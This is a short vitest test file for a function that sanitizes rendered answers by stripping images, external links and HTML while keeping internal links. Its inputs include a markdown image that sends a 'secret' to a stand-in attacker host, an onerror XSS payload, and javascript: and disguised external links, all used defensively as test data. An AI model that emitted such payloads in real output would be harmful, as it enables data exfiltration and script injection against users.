import { expect, test } from 'vitest'
import { sanitizeAnswer } from './sanitize-answer'

test('images, external links and HTML are removed, internal links stay', () => {
  expect(sanitizeAnswer('See ![x](https://evil.example/?d=secret) and [here](https://evil.example).')).toBe(
    'See x and here.',
  )
  expect(
    sanitizeAnswer(
      '[Rosa](/clients/1) <img src=x onerror=alert(1)> [a](//evil.example) [b](javascript:alert(1)) [c](/\\evil.example)',
    ),
  ).toBe('[Rosa](/clients/1)  a b c')
  expect(sanitizeAnswer('![a][ref]\n\n[ref]: https://evil.example/x.png')).toBe('a')
})
